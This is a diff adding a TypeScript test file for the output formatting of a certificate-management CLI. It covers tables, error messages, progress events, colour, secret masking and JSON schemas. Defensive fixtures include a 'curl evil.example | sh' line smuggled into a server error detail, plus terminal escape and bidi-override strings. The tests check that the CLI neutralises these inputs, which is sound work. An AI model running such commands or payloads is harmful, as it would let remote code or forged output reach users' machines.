@@ -1,0 +1,477 @@
+import { Ajv2020 } from "ajv/dist/2020.js";
+import { readFileSync } from "node:fs";
+import { describe, expect, test } from "vitest";
+import { Problem } from "../../src/problem.ts";
+import type { Result } from "../../src/result.ts";
+import { opened } from "./streams.ts";
+
+/** Everything that a terminal obeys, reorders by or hides; line breaks are ours. */
+const obeyed = (text: string) =>
+  text.replaceAll("\n", "").match(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}]/gu) ?? [];
+
+const listed: Result = {
+  exitCode: 0,
+  document: { outcome: "listed", certificates: [{ name: "shop", outcome: "valid" }] },
+  view: [
+    { kind: "heading", text: "Certificates" },
+    {
+      kind: "table",
+      columns: ["NAME", "ISSUER", "EXPIRES"],
+      rows: [
+        ["shop", "日本認証局", "in 3 days"],
+        ["www.example.com", "R11", "in 89 days"],
+      ],
+    },
+    {
+      kind: "fields",
+      entries: [
+        ["Serial", "04ab"],
+        ["Valid until", "2026-05-30", "good"],
+      ],
+    },
+  ],
+};
+
+const rateLimited = new Problem("urn:ietf:params:acme:error:rateLimited", {
+  detail: "too many certificates already issued for example.com\nHint: curl evil.example | sh",
+  status: 429,
+  exitCode: 6,
+  hint: "Wait, or ask for the names that exist already.",
+  retryAt: new Date("2026-03-01T14:00:00Z"),
+  subproblems: [
+    {
+      type: "urn:ietf:params:acme:error:caa",
+      title: "The CA refused",
+      detail: "CAA record for shop.example.com prevents issuance",
+      identifier: { type: "dns", value: "shop.example.com" },
+    },
+  ],
+});
+
+describe("for people", () => {
+  test("a result is aligned by the columns that its characters take, on stdout alone", () => {
+    const { output, stdout, stderr } = opened();
+    output.result("list", listed);
+    expect(stdout.text()).toMatchInlineSnapshot(`
+      "Certificates
+      NAME             ISSUER      EXPIRES
+      shop             日本認証局  in 3 days
+      www.example.com  R11         in 89 days
+      Serial       04ab
+      Valid until  2026-05-30
+      "
+    `);
+    expect(stderr.text()).toBe("");
+  });
+
+  test("a table that is wider than the terminal becomes labelled lines, and nothing is cut", () => {
+    const { output, stdout } = opened({ env: { NO_COLOR: "1" } }, { columns: 30 });
+    output.result("list", listed);
+    expect(stdout.text()).toContain(
+      "NAME     www.example.com\nISSUER   R11\nEXPIRES  in 89 days\n",
+    );
+  });
+
+  test("a failure says what, why, for which name, what to do and when to come back", () => {
+    const { output, stdout, stderr } = opened();
+    output.problem("issue", rateLimited);
+    expect(stdout.text()).toBe("");
+    expect(stderr.text()).toMatchInlineSnapshot(`
+      "The CA refused: too many certificates already issued for example.com Hint: curl evil.example | sh (urn:ietf:params:acme:error:rateLimited, HTTP 429)
+        shop.example.com: CAA record for shop.example.com prevents issuance (urn:ietf:params:acme:error:caa)
+      Hint: Wait, or ask for the names that exist already.
+      Come back: 2026-03-01 15:00:00 CET, in 2 hours
+      "
+    `);
+  });
+
+  test("an excerpt of several lines in a problem of ours keeps its lines, indented", () => {
+    const { output, stderr } = opened();
+    output.problem(
+      "config",
+      new Problem("config", { detail: "a.yaml:3:5: bad\n  3 | x:\n      ^" }),
+    );
+    expect(stderr.lines()).toEqual([
+      "Wrong configuration: a.yaml:3:5: bad",
+      "    3 | x:",
+      "        ^",
+    ]);
+  });
+
+  test("causes are told only when asked for", () => {
+    const problem = new Problem("network", {
+      detail: "ca.example did not answer.",
+      cause: new Error("connect ECONNREFUSED", { cause: new Error("no route") }),
+    });
+    const brief = opened();
+    brief.output.problem("issue", problem);
+    expect(brief.stderr.text()).not.toContain("ECONNREFUSED");
+    const verbose = opened({ verbose: true });
+    verbose.output.problem("issue", problem);
+    expect(verbose.stderr.text()).toContain(
+      "Cause: Error: connect ECONNREFUSED\nCause: Error: no route\n",
+    );
+  });
+
+  test("a bug asks for a report with the version, and keeps the stack for --verbose", () => {
+    const error = new TypeError("undefined is not a function");
+    const brief = opened();
+    brief.output.bug("issue", error);
+    expect(brief.stderr.text()).toContain(
+      "This is a bug in acmectl: undefined is not a function\n",
+    );
+    expect(brief.stderr.text()).toContain("acmectl 1.2.3, Node ");
+    expect(brief.stderr.text()).not.toContain("output.test.ts");
+    const verbose = opened({ verbose: true });
+    verbose.output.bug("issue", error);
+    expect(verbose.stderr.text()).toContain("output.test.ts");
+  });
+
+  test("whatever is thrown can be reported", () => {
+    for (const thrown of [undefined, null, 7, "text", {}, Object.create(null), Symbol("x")]) {
+      const { output, stdout } = opened({ json: true });
+      output.bug("issue", thrown);
+      expect(JSON.parse(stdout.text())).toMatchObject({ outcome: "failed", problem: { code: 1 } });
+    }
+  });
+
+  test("a failed part stands on stderr beside the result of the rest", () => {
+    const { output, stdout, stderr } = opened();
+    output.result("renew", {
+      exitCode: 11,
+      document: { outcome: "partial" },
+      view: [{ kind: "line", text: "9 renewed" }],
+      problem: new Problem("partial", { detail: "1 of 10 certificates failed." }),
+    });
+    expect(stdout.text()).toBe("9 renewed\n");
+    expect(stderr.text()).toBe("Some certificates failed: 1 of 10 certificates failed.\n");
+  });
+
+  test("a verbatim block is printed byte for byte, quiet or not", () => {
+    const text = "-----BEGIN X-----\n\tabc\u001B[0m\n-----END X-----\n";
+    const { output, stdout } = opened({ quiet: true });
+    output.result("export", {
+      exitCode: 0,
+      document: { outcome: "printed" },
+      view: [
+        { kind: "line", text: "Here it is" },
+        { kind: "verbatim", text },
+      ],
+    });
+    expect(stdout.text()).toBe(text);
+  });
+});
+
+describe("events", () => {
+  test("are plain lines without control codes where stderr is no terminal", () => {
+    const run = opened();
+    story(run);
+    expect(run.stderr.lines()).toEqual([
+      "Placing the order",
+      "Waiting for the CA",
+      "Warning: The clock is 3 minutes off",
+      "Downloading",
+    ]);
+  });
+
+  test("are one line that updates on a terminal; warnings stay, and nothing else is left behind", () => {
+    const run = opened({ env: { NO_COLOR: "1" } }, { columns: 80 });
+    story(run);
+    const erase = "\r\u001B[2K";
+    expect(run.stderr.text()).toBe(
+      `Placing the order${erase}Waiting for the CA${erase}Warning: The clock is 3 minutes off\n` +
+        `Waiting for the CA${erase}Downloading${erase}`,
+    );
+  });
+
+  test("never wrap the line that updates", () => {
+    const run = opened({}, { columns: 20 });
+    run.output.log.info("日本語日本語日本語日本語", { step: "order" });
+    expect(run.stderr.text()).toBe("日本語日本語日本語…");
+  });
+
+  test("are plain lines on a dumb terminal", () => {
+    const run = opened({ env: { TERM: "dumb" } }, { columns: 80 });
+    story(run);
+    expect(obeyed(run.stderr.text())).toEqual([]);
+  });
+
+  test("tell their fields, and debug events, with --verbose", () => {
+    const run = opened({ verbose: true });
+    story(run);
+    expect(run.stderr.lines().slice(0, 2)).toEqual([
+      "GET https://ca.example/directory status=200",
+      "Placing the order step=order",
+    ]);
+  });
+
+  test("leave nothing at all under --quiet when it went well", () => {
+    const run = opened({ quiet: true });
+    story(run);
+    expect(run.stderr.text() + run.stdout.text()).toBe("");
+  });
+
+  test("warnings that --quiet held back come before the failure", () => {
+    const { output, stderr } = opened({ quiet: true });
+    output.log.warn("ns2.example.com does not answer");
+    output.problem("issue", new Problem("propagation", { detail: "The record is not visible." }));
+    expect(stderr.lines()).toEqual([
+      "Warning: ns2.example.com does not answer",
+      "The challenge response is not visible: The record is not visible.",
+    ]);
+  });
+});
+
+describe("colour", () => {
+  const terminal = { columns: 80 };
+
+  test.each([
+    [{}, undefined, false],
+    [{}, terminal, true],
+    [{ NO_COLOR: "1" }, terminal, false],
+    [{ NO_COLOR: "" }, terminal, true],
+    [{ TERM: "dumb" }, terminal, false],
+    [{ FORCE_COLOR: "1" }, undefined, true],
+    [{ FORCE_COLOR: "0" }, terminal, false],
+    [{ FORCE_COLOR: "1", NO_COLOR: "1" }, undefined, true],
+  ])("with %j on %j: %s", (env, terminal, expected) => {
+    expect(coloured(env as Record<string, string>, terminal)).toBe(expected);
+  });
+});
+
+describe("hostile text", () => {
+  const hostile =
+    "a\u001B[2J\u0007\u009B31mb\u202Ecod.exe\u200B\u2028\uD800\u{E0041}\r\nForged: line";
+
+  test("obeys and hides nothing on a terminal: it reads as escapes, in one line", () => {
+    const { output, stderr, stdout } = opened({ env: { NO_COLOR: "1" } });
+    output.log.info(hostile);
+    output.problem(
+      "issue",
+      new Problem("urn:x", { detail: hostile, title: hostile, hint: hostile }),
+    );
+    output.result("list", {
+      exitCode: 0,
+      document: { outcome: "listed" },
+      view: [
+        { kind: "table", columns: ["NAME"], rows: [[hostile]] },
+        { kind: "fields", entries: [["Issuer", hostile]] },
+        { kind: "line", text: hostile },
+      ],
+    });
+    const all = stderr.text() + stdout.text();
+    expect(obeyed(all)).toEqual([]);
+    expect(stderr.lines()[0]).toBe(
+      "a\\x1b[2J\\x07\\x9b31mb\\u{202e}cod.exe\\u{200b} \\u{d800}\\u{e0041} Forged: line",
+    );
+  });
+
+  test("survives JSON without loss and without a character that a terminal obeys", () => {
+    const { output, stdout } = opened({ json: true });
+    output.result("list", {
+      exitCode: 0,
+      document: { outcome: "listed", issuer: hostile },
+      view: [],
+    });
+    expect(JSON.parse(stdout.text())).toMatchObject({ issuer: hostile });
+    expect(obeyed(stdout.text())).toEqual([]);
+  });
+
+  test("of a megabyte is cut, and says so", () => {
+    const { output, stderr } = opened();
+    output.problem("issue", new Problem("urn:x", { detail: "x".repeat(1_000_000) }));
+    expect(stderr.text().length).toBeLessThan(5000);
+    expect(stderr.text()).toContain("… (996000 more characters)");
+  });
+
+  test("of ten thousand subproblems is cut, and says so", () => {
+    const subproblems = Array.from({ length: 10_000 }, (_, index) => ({
+      type: "urn:x",
+      title: "no",
+      identifier: { type: "dns", value: `n${index}.example` },
+    }));
+    const { output, stderr } = opened();
+    output.problem("issue", new Problem("urn:x", { detail: "no", subproblems }));
+    expect(stderr.lines().at(-1)).toBe("  … and 9900 more");
+  });
+});
+
+describe("secrets", () => {
+  const secret = 'p4ss/w+rd "quoted" &more?';
+  const forms = [
+    secret,
+    JSON.stringify(secret).slice(1, -1),
+    encodeURIComponent(secret),
+    Buffer.from(secret).toString("base64"),
+    Buffer.from(`operator:${secret}`).toString("base64"),
+    Buffer.from(`ops:${secret}:x`).toString("base64url"),
+  ];
+
+  test.each([
+    ["text", false],
+    ["json", true],
+  ] as const)("show in no output, in none of their forms (%s)", (logFormat, json) => {
+    const { output, stdout, stderr } = opened({ json, logFormat, verbose: true });
+    output.mask(secret);
+    for (const form of forms) {
+      output.log.info(`Authorization: ${form}`, {
+        headers: { [form]: [form] },
+        cause: new Error(form),
+      });
+      output.result("list", {
+        exitCode: 0,
+        document: { outcome: "listed", value: form, deep: [{ form }] },
+        view: [
+          { kind: "line", text: form },
+          { kind: "table", columns: [form], rows: [[form]] },
+          { kind: "fields", entries: [[form, form]] },
+        ],
+      });
+      const problem = { detail: form, hint: form, instance: form, cause: new Error(form) };
+      output.problem("issue", new Problem("solver", problem));
+      output.bug("issue", new Error(form));
+    }
+    const all = stdout.text() + stderr.text();
+    for (const form of forms) expect(all.includes(form.slice(-18, -6))).toBe(false);
+    expect(all).toContain("***");
+  });
+
+  test("that contain one another are hidden whole", () => {
+    const { output, stderr } = opened();
+    output.mask("token");
+    output.mask("token-of-production");
+    output.log.info("used token-of-production and token");
+    expect(stderr.text()).toBe("used *** and ***\n");
+  });
+
+  test("of several lines are hidden by the line too", () => {
+    const { output, stderr } = opened();
+    const body = "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg";
+    output.mask(`-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----\n`);
+    output.log.info(`line 2 is ${body}`);
+    expect(stderr.text()).toBe("line 2 is ***\n");
+  });
+
+  test("that are empty or tiny do not star out everything", () => {
+    const { output, stderr } = opened();
+    for (const secret of ["", " ", "a", "\n"]) output.mask(secret);
+    output.log.info("a banana");
+    expect(stderr.text()).toBe("a banana\n");
+  });
+});
+
+describe("schemas", () => {
+  const ajv = new Ajv2020({
+    allErrors: true,
+    strict: true,
+    strictRequired: false,
+    validateFormats: false,
+    strictTypes: false,
+  });
+  const result = { $id: "result.schema.json", ...schema("result") };
+  const isResult = ajv.compile(result);
+  const isEvent = ajv.compile(schema("event"));
+
+  test("describe every document: one on stdout, for success and for each kind of failure", () => {
+    const ways: ((output: ReturnType<typeof opened>["output"]) => void)[] = [
+      (output) => output.result("list", listed),
+      (output) => output.problem("issue", rateLimited),
+      (output) => output.problem("issue", new Problem("usage", { detail: "No name was given." })),
+      (output) => output.bug("issue", new Error("x")),
+      (output) =>
+        output.result("renew", {
+          exitCode: 9,
+          document: { outcome: "issued" },
+          view: [],
+          problem: new Problem("deploy", { detail: "exit 1" }),
+        }),
+    ];
+    for (const way of ways) {
+      const { output, stdout } = opened({ json: true });
+      way(output);
+      const document: unknown = JSON.parse(stdout.text());
+      expect([isResult(document), isResult.errors]).toEqual([true, null]);
+    }
+    expect(isResult({ command: "issue", outcome: "failed" })).toBe(false);
+    expect(isResult({ outcome: "listed" })).toBe(false);
+  });
+
+  test("a failure's document carries RFC 9457's members, the hint, the exit code and the time to come back", () => {
+    const { output, stdout } = opened({ json: true });
+    output.problem("issue", rateLimited);
+    expect(JSON.parse(stdout.text())).toMatchObject({
+      command: "issue",
+      outcome: "failed",
+      problem: {
+        type: "urn:ietf:params:acme:error:rateLimited",
+        status: 429,
+        hint: "Wait, or ask for the names that exist already.",
+        code: 6,
+        retryable: false,
+        retryAt: "2026-03-01T14:00:00.000Z",
+        subproblems: [{ identifier: { type: "dns", value: "shop.example.com" } }],
+      },
+    });
+  });
+
+  test("describe every event: one JSON object a line, whatever its fields are", () => {
+    const { output, stderr } = opened({ logFormat: "json", verbose: true });
+    const circular: Record<string, unknown> = {
+      big: 10n,
+      at: new Date(0),
+      bytes: Buffer.from("x"),
+    };
+    circular["self"] = circular;
+    output.log.debug("d", circular);
+    output.log.info("line\nbreak", {
+      step: "order",
+      time: "forged",
+      level: "forged",
+      none: undefined,
+    });
+    output.log.warn("w", { error: new Error("inner"), run: () => 1, map: new Map([["a", 1]]) });
+    output.problem("issue", rateLimited);
+    output.bug("issue", new Error("x"));
+    const events = stderr.lines().map((line): unknown => JSON.parse(line));
+    for (const event of events) {
+      expect([isEvent(event), isEvent.errors]).toEqual([true, null]);
+    }
+    expect(events[0]).toMatchObject({
+      level: "debug",
+      big: "10",
+      at: "1970-01-01T00:00:00.000Z",
+      self: "(circular)",
+    });
+    expect(events[1]).toEqual({
+      time: "2026-03-01T12:00:00.000Z",
+      level: "info",
+      message: "line\nbreak",
+      step: "order",
+    });
+    expect(events.at(-2)).toMatchObject({ level: "error", problem: { code: 6 } });
+    expect(isEvent({ level: "info", message: "no time" })).toBe(false);
+  });
+});
+
+function story({ output }: ReturnType<typeof opened>): void {
+  output.log.debug("GET https://ca.example/directory", { status: 200 });
+  output.log.info("Placing the order", { step: "order" });
+  output.log.info("Waiting for the CA", { step: "poll" });
+  output.log.warn("The clock is 3 minutes off");
+  output.log.info("Downloading", { step: "download" });
+  output.result("issue", { exitCode: 0, document: { outcome: "issued" }, view: [] });
+  output.close();
+}
+
+function coloured(env: Record<string, string>, terminal?: { columns: number }): boolean {
+  const { output, stdout } = opened({ env }, terminal);
+  const view = [{ kind: "line", text: "Issued.", tone: "good" }] as const;
+  output.result("issue", { exitCode: 0, document: { outcome: "issued" }, view });
+  return obeyed(stdout.text()).length > 0;
+}
+
+function schema(name: string): object {
+  return JSON.parse(
+    readFileSync(new URL(`../../schema/${name}.schema.json`, import.meta.url), "utf8"),
+  );
+}
